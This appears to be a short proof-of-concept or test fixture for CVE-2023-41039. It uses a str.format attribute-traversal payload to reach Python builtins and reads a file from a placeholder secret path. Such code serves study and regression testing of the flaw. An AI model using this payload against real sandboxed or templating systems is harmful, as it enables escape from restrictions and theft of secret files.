"""str.format follows attributes (CVE-2023-41039)."""
class Keep:
    def __init__(self):
        self.secret = open
path = "@SECRET_FILE@"
print("{0.secret.__self__}".format(Keep()), Keep().secret(path).read())
